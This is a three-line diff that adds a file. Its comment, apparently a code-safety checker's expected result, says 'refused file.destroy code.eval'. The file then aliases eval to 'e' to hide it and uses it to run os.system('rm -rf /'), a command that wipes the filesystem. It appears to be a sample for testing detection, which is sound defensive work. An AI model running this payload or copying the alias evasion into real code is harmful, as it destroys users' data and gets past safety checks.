@@ -1,0 +1,3 @@
+# nacre: refused file.destroy code.eval
+e = eval
+e("__import__('os').system('rm -rf /')")
